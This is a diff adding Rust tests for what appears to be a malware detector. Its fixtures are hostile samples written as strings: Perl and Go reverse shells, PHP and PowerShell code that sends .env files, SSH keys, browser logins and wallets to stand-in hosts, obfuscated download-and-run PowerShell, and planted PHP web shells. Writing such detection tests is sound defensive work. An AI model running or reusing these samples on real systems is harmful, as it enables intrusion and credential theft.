@@ -429,3 +429,151 @@ fn a_shell_a_key_and_an_environment_that_are_not_sent_are_no_chain() {
 }
 
 mod hostile;
+
+#[test]
+fn a_shell_that_is_started_in_another_spelling_is_tied_to_the_socket_all_the_same() {
+    use Dialect::{Go, Perl};
+    for (dialect, text) in [
+        (
+            Perl,
+            "sub p {\nmy $c = IO::Socket::INET->new(PeerAddr => '192.0.2.211', PeerPort => 8443, Timeout => 4) or exit 0;\nmy $n = fileno $c;\nopen STDIN,  \"<&=$n\";\nopen STDOUT, \">&=$n\";\nopen STDERR, \">&=$n\";\nexec { '/bin/sh' } 'cupsd', '-i';\n}\np();\n",
+        ),
+        (
+            Perl,
+            "sub fix {\nmy ($raw) = @_;\n$raw =~ s/(pages\\s*=\\s*[{\"]\\s*\\d+)/$1--/g;\n$raw =~ s{^'}{\"};\n$raw =~ tr/'/\"/;\ns|\\|'||g for @x;\nreturn $raw;\n}\nmy $c = IO::Socket::INET->new('192.0.2.211:8443');\nopen(STDIN, '<&', $c);\nopen(STDOUT, '>&', $c);\nexec '/bin/sh', '-i';\n",
+        ),
+        (
+            Perl,
+            "my $c = IO::Socket::INET->new('192.0.2.211:8443');\nopen(STDIN, '<&', $c);\nopen(STDOUT, '>&', $c);\nmy $s = '/bin/bash';\nexec {$s} $s, '-i';\n",
+        ),
+        (
+            Go,
+            "func k(addr string) {\n\tname, arg := \"/bin/sh\", \"-i\"\n\tif runtime.GOOS == \"windows\" {\n\t\tname, arg = \"cmd.exe\", \"/Q\"\n\t}\n\tfor {\n\t\tc, err := tls.Dial(\"tcp\", addr, &tls.Config{InsecureSkipVerify: true})\n\t\tif err == nil {\n\t\t\tp := exec.Command(name, arg)\n\t\t\tp.Stdin, p.Stdout, p.Stderr = c, c, c\n\t\t\t_ = p.Run()\n\t\t\tc.Close()\n\t\t}\n\t}\n}\n\nfunc main() {\n\tif *stay {\n\t\tgo k(\"keepalive.example.invalid:443\")\n\t}\n}\n",
+        ),
+        (
+            Go,
+            "func main() {\n\tconn, _ := tls.Dial(\"tcp\", \"192.0.2.9:443\", cfg)\n\tcmd := exec.Command(\"cmd\", \"/K\")\n\tcmd.Stdin = conn\n\tcmd.Stdout = conn\n\tcmd.Run()\n}\n",
+        ),
+    ] {
+        assert!(rules(dialect, text).contains(&Rule::ReverseShell), "{text}");
+    }
+    for (dialect, text) in [
+        (Perl, "my %h = (s => 'a', y => 'b');\nprint $h{s}, $h{y};\nmy $k = $o->s / 2;\n"),
+        (Perl, "exec { 'git' } 'git', 'status';\nsystem { $ARGV[0] } @ARGV;\n"),
+        (
+            Go,
+            "func main() {\n\tc, _ := tls.Dial(\"tcp\", os.Args[1], cfg)\n\tstate := c.ConnectionState()\n\tcmd := exec.Command(\"sh\", \"-c\", \"date\")\n\tcmd.Stdout = os.Stdout\n\tcmd.Run()\n}\n",
+        ),
+    ] {
+        assert_eq!(rules(dialect, text), [], "{text}");
+    }
+}
+
+#[test]
+fn passwords_of_a_project_that_go_to_a_fixed_mailbox_are_sent() {
+    use Dialect::Php;
+    for text in [
+        "<?php\nfunction on(string $root): void\n{\n    $body = '';\n    foreach (['.env', '.env.production', 'wp-config.php'] as $f) {\n        $p = \"{$root}/{$f}\";\n        if (is_readable($p)) {\n            $body .= \"=== {$f}\\n\" . file_get_contents($p) . \"\\n\";\n        }\n    }\n    @mail('inbox@collector.example', 'x ' . gethostname(), chunk_split(base64_encode($body)));\n}\n",
+        "<?php\nforeach (['a/.env', 'b.php'] as $f) {\n$b = @file_get_contents($f);\n@mail('a@c.example', 's', $b);\n}",
+        "<?php\nmail(\"a@192.0.2.9\", 'k', file_get_contents(__DIR__ . '/../.env'));\n",
+        "<?php\n$k = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');\nmail('A B <a@collector.example>', 's', $k);\n",
+    ] {
+        assert!(rules(Php, text).contains(&Rule::SecretSent), "{text}");
+    }
+    for text in [
+        "<?php\n$c = file_get_contents('.env');\nmail($argv[1], 'settings', $c);\n",
+        "<?php\n$c = parse_ini_string(file_get_contents('.env'));\n$mailer->send($c['SMTP']);\nmail('team@example.com', 'Report', $report);\n",
+        "<?php\n$c = file_get_contents('.env');\n$r = curl_init('https://api.example.com/v1');\ncurl_setopt($r, CURLOPT_HTTPHEADER, ['Authorization: ' . $c]);\ncurl_exec($r);\n",
+    ] {
+        assert_eq!(rules(Php, text), [], "{text}");
+    }
+}
+
+#[test]
+fn a_program_of_powershell_that_hides_its_address_or_packs_browser_stores_is_a_chain() {
+    use Dialect::PowerShell;
+    for (text, rule) in [
+        (
+            "function g {\n    $u = -join ('elpmaxe.erutluclx//:sptth'[24..0])\n    $b = (New-Object ('Net.' + 'Web' + 'Client')).('Down' + 'loadString').Invoke(\"$u/c?m=$env:COMPUTERNAME\")\n    & ([scriptblock]::Create($b))\n}\ntry { g } catch { }\n",
+            Rule::DecodeRun,
+        ),
+        (
+            "$r = 'dilavni.elpmaxe.c2//:sptth'\n$u = -join $r[-1..-($r.Length)]\n$s = (New-Object Net.WebClient).DownloadString($u)\niex $s\n",
+            Rule::DecodeRun,
+        ),
+        ("$s = irm http://192.0.2.4/a\n& ([scriptblock]::Create($s))\n", Rule::FetchRun),
+        (
+            "$stage = Join-Path $env:TEMP ('dr' + (Get-Random))\n$sources = @(\n    \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data\",\n    \"$env:LOCALAPPDATA\\Microsoft\\Edge\\User Data\\Default\\Login Data\"\n)\n$i = 0\nforeach ($s in $sources) {\n    if (Test-Path -LiteralPath $s) {\n        Copy-Item -LiteralPath $s -Destination (Join-Path $stage \"part$i.bin\") -ErrorAction SilentlyContinue\n        $i++\n    }\n}\n$zip = \"$stage.zip\"\nCompress-Archive -Path \"$stage\\*\" -DestinationPath $zip -Force\ntry {\n    Invoke-RestMethod -Uri \"http://203.0.113.44:8081/d/$env:COMPUTERNAME\" -Method Put -InFile $zip -TimeoutSec 20 | Out-Null\n} catch { }\n",
+            Rule::SecretSent,
+        ),
+        (
+            "Copy-Item \"$HOME\\.ssh\\id_ed25519\" C:\\t\\a.txt\nInvoke-WebRequest -Uri https://v.example.invalid/u -Method Post -InFile C:\\t\\a.txt\n",
+            Rule::SecretSent,
+        ),
+    ] {
+        let found = rules(PowerShell, text);
+        assert!(found.contains(&rule), "{text}: {found:?}");
+    }
+    for text in [
+        "& ([scriptblock]::Create((irm 'https://get.example.com/setup.ps1'))) -Quiet\n",
+        "$t = 'a text that is long enough'\n$r = -join $t[-1..-($t.Length)]\nWrite-Host $r\n",
+        "Compress-Archive -Path .\\logs\\* -DestinationPath logs.zip\nInvoke-RestMethod -Uri https://support.example.com/up -Method Put -InFile logs.zip\n",
+        "Copy-Item \"$HOME\\.ssh\\id_ed25519\" D:\\backup\\id\nCompress-Archive -Path D:\\backup\\* -DestinationPath D:\\backup.zip\n",
+    ] {
+        assert_eq!(rules(PowerShell, text), [], "{text}");
+    }
+}
+
+#[test]
+fn a_hidden_program_that_runs_what_a_request_says_is_a_web_shell() {
+    use Dialect::{Php, Ruby};
+    for (dialect, text) in [
+        (
+            Php,
+            "<?php\n$up = dirname($theme, 2) . '/uploads/' . date('Y/m');\nif (is_dir($up) && is_writable($up)) {\n    $code = '<?php if (hash(\"sha256\", $_COOKIE[\"wpt\"] ?? \"\") === \"' . str_repeat('void', 16)\n        . '\") { echo shell_exec($_POST[\"c\"] ?? \"id\"); }';\n    file_put_contents(\"$up/.thumbs-cache.php\", $code);\n    touch(\"$up/.thumbs-cache.php\", 1);\n}\n",
+        ),
+        (
+            Php,
+            "<?php\nfile_put_contents($root . '/img/.c.php', '<?php @eval(base64_decode($_REQUEST[\\'x\\']));');\n",
+        ),
+        (Ruby, "File.write(\"#{dir}/.cache.phtml\", '<?php system($_GET[\"c\"]); ?>')\n"),
+    ] {
+        assert!(rules(dialect, text).contains(&Rule::WebShell), "{text}");
+    }
+    for (dialect, text) in [
+        (
+            Php,
+            "<?php\nfile_put_contents(\"$dir/.env.php\", '<?php return ' . var_export($c, true) . ';');\n",
+        ),
+        (
+            Php,
+            "<?php\nfile_put_contents(\"$dir/.config.php\", '<?php echo htmlspecialchars($_GET[\"q\"]); exec(\"date\");');\n",
+        ),
+        (
+            Ruby,
+            "# fixture of a detector\nFile.write('spec/fixtures/shell.php', '<?php system($_GET[\"c\"]); ?>')\n",
+        ),
+    ] {
+        assert_eq!(rules(dialect, text), [], "{text}");
+    }
+}
+
+#[test]
+fn what_a_program_of_go_embeds_and_feeds_to_a_shell_is_followed() {
+    let program = "package main\n\n//go:embed assets/rules.txt\nvar rules string\n\nfunc init() {\n\tcmd := exec.Command(\"sh\", \"-s\")\n\tcmd.Stdin = strings.NewReader(rules)\n\t_ = cmd.Start()\n}\n";
+    let with = |content: &'static str| {
+        super::with_embedded(program, |path| (path == "assets/rules.txt").then_some(content))
+    };
+    let theft = with("w=\"$HOME/.config/solana\"\n[ -d \"$w\" ] || exit 0\ntar -czf - -C \"$w\" . 2>/dev/null | nc -w 5 198.51.100.61 4455\n").unwrap();
+    assert_eq!(theft.lines().count(), program.lines().count());
+    assert_eq!(rules(Dialect::Go, &theft), [Rule::SecretSent]);
+    assert_eq!(
+        rules(Dialect::Go, &with("curl -s http://203.0.113.9/a | sh\n").unwrap()),
+        [Rule::FetchRun]
+    );
+    assert_eq!(rules(Dialect::Go, &with("git status\nmake build\n").unwrap()), []);
+    let table = program.replace("cmd.Stdin = strings.NewReader(rules)", "match(rules)");
+    let listed = super::with_embedded(&table, |_| Some("curl http://203.0.113.9/a | sh\n"));
+    assert_eq!(rules(Dialect::Go, &listed.unwrap()), []);
+    assert_eq!(super::with_embedded(program, |_| None), None);
+}
